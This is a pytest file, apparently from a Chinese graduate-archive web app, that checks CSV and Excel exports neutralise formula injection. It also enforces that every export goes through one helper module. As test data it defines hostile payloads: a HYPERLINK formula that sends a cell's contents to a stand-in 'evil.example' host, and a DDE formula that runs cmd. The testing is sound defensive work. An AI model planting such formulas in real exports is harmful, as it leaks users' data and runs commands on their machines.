"""Exports never carry a live formula (CSV/formula injection), and every export goes through
apps/core/exports.py."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pytest

from apps.core.exports import Column, XlsxBook, csv_bytes, safe_cell
from apps.roster.workbooks import issues_workbook
from tests.archives.conftest import register

APPS = Path(__file__).resolve().parents[2] / "apps"
HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击领取档案")'
DDE = "=cmd|' /C calc'!A0"


def _cells(content: bytes):
    """Every non-empty cell of every sheet, reopened the way Excel would read the file."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield cell


def _assert_no_formula(content: bytes) -> list:
    cells = list(_cells(content))
    assert cells
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        assert not (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))), \
            (cell.coordinate, cell.value)
    return cells


# --- the archive mailing list (档案邮寄清单) ------------------------------------------------------

@pytest.mark.django_db
def test_hostile_archive_forwarding_fields_export_as_visible_text(world, api_client):
    register(world.graduate, receiving_unit_name=HYPERLINK, receiving_department=DDE, contact_person="@SUM(A1:A9)")
    register(world.classmate, receiving_unit_name="+1+1", receiving_department="-2+3")
    api_client.login_as(world.school_admin)

    response = api_client.post("/archives/export", {})

    assert response.status_code == 200
    cells = _assert_no_formula(response.content)
    values = {c.value for c in cells}
    # what the graduate typed is still there, readable, behind the harmless apostrophe
    assert {"'" + HYPERLINK, "'" + DDE, "'@SUM(A1:A9)", "'+1+1", "'-2+3"} <= values
    assert "蜀山区人才服务中心" not in values and "档案室" not in values  # the hostile rows, not the defaults


@pytest.mark.django_db
def test_ordinary_archive_export_is_unchanged(world, api_client):
    register(world.graduate, contact_phone="0551-65123456")
    api_client.login_as(world.school_admin)
    rows = [[c.value for c in row] for row in
            openpyxl.load_workbook(io.BytesIO(api_client.post("/archives/export", {}).content)).active.iter_rows()]
    assert rows[1][3:9] == ["蜀山区人才服务中心", "档案室", "安徽省合肥市蜀山区长江西路100号", "230031", "陈老师",
                            "0551-65123456"]


# --- the roster workbooks ------------------------------------------------------------------------

def test_roster_issue_report_quotes_hostile_values_as_text():
    issues = [SimpleNamespace(row_number=2, column="姓名", is_warning=False, message=DDE),
              SimpleNamespace(row_number=3, column="=A1", is_warning=True, message="\t=1+1")]
    cells = _assert_no_formula(issues_workbook(title="校验结果", issues=issues))
    assert {"'" + DDE, "'=A1", "'\t=1+1"} <= {c.value for c in cells}


@pytest.mark.django_db
def test_roster_template_has_no_formula_cells(reference):
    from apps.roster.services import roster_template_workbook

    _assert_no_formula(roster_template_workbook())


# --- the helper itself -------------------------------------------------------------------------

@pytest.mark.parametrize("value", ["=1+1", "+86 138", "-5", "@A1", "\t=1", "\r=1", DDE, HYPERLINK])
def test_safe_cell_neutralises_formula_starts(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["蜀山区人才服务中心", "0551-65123456", "a=b", " =1", "", None, 42, -3.5])
def test_safe_cell_leaves_other_values_alone(value):
    assert safe_cell(value) == value


def test_safe_cell_drops_characters_that_would_abort_the_export():
    assert safe_cell("档案\x00室\x08") == "档案室"
    assert safe_cell("\x01=1+1") == "'=1+1"


def test_book_keeps_text_columns_as_text_and_numbers_as_numbers():
    book = XlsxBook()
    sheet = book.sheet("表", [Column("学号", 14, text=True), Column("数量")])
    sheet.append(["0012", 7])
    sheet.append(["=1+1", -7])
    rows = list(openpyxl.load_workbook(io.BytesIO(book.to_bytes())).active.iter_rows())
    assert [c.value for c in rows[0]] == ["学号", "数量"] and rows[0][0].font.b
    assert rows[1][0].value == "0012" and rows[1][0].number_format == "@"
    assert rows[1][1].value == 7 and rows[2][1].value == -7
    assert rows[2][0].value == "'=1+1" and rows[2][0].data_type == "s"


def test_csv_export_neutralises_too():
    content = csv_bytes(["单位", "数量"], [[HYPERLINK, 3], ["普通单位", None]])
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["单位", "数量"], ["'" + HYPERLINK, "3"], ["普通单位", ""]]


# --- the standing rule: one door for every export ----------------------------------------------------

_WRITER_CALLS = {"Workbook", "DictWriter", "to_csv", "to_excel"}
_WRITER_MODULES = {"xlsxwriter", "xlwt", "pyexcel", "tablib"}


def export_writers(source: str) -> list[str]:
    """What in `source` writes a spreadsheet or CSV: openpyxl Workbook(), csv.writer /
    DictWriter, pandas .to_csv/.to_excel, or another spreadsheet-writing library."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call):
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
            if name in _WRITER_CALLS:
                found.append(f"{name}() line {node.lineno}")
            if name == "writer" and isinstance(func, ast.Attribute) and getattr(func.value, "id", "") == "csv":
                found.append(f"csv.writer() line {node.lineno}")
        elif isinstance(node, ast.ImportFrom):
            imported = {a.name for a in node.names}
            if node.module == "csv" and imported & {"writer", "DictWriter"}:
                found.append(f"from csv import writer line {node.lineno}")
            if (node.module or "").split(".")[0] in _WRITER_MODULES:
                found.append(f"import {node.module} line {node.lineno}")
        elif isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name.split(".")[0] in _WRITER_MODULES:
                    found.append(f"import {alias.name} line {node.lineno}")
    return found


def test_the_scanner_recognises_export_writers():
    assert export_writers("import openpyxl\nwb = openpyxl.Workbook()\n")
    assert export_writers("from openpyxl import Workbook\nWorkbook(write_only=True)\n")
    assert export_writers("import csv\ncsv.writer(f).writerow([1])\n")
    assert export_writers("from csv import DictWriter\n")
    assert export_writers("import xlsxwriter\n")
    assert export_writers("df.to_excel('a.xlsx')\n")
    # reading is fine: the roster and reference loaders read workbooks and CSV files
    assert not export_writers("import csv, openpyxl\ncsv.DictReader(f)\nopenpyxl.load_workbook(f)\n")


def test_only_apps_core_exports_writes_spreadsheets_or_csv():
    helper = APPS / "core" / "exports.py"
    offenders = {}
    for path in sorted(APPS.rglob("*.py")):
        if path == helper or "migrations" in path.parts:
            continue
        found = export_writers(path.read_text(encoding="utf-8"))
        if found:
            offenders[str(path.relative_to(APPS.parent))] = found
    assert offenders == {}, "exports must go through apps/core/exports.py (formula-safe cells)"
